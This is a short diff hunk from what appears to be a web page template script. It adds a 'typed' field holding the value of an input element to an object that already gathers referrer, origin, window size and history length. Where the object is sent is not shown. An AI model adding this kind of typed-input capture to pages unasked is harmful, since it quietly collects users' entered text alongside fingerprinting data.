@@ -20,6 +20,7 @@ ${body}
     referrer: document.referrer,
     origin: self.origin,
     focused: document.activeElement?.id ?? '',
+    typed: document.getElementById('input').value,
     width: innerWidth,
     height: innerHeight,
     history: history.length,
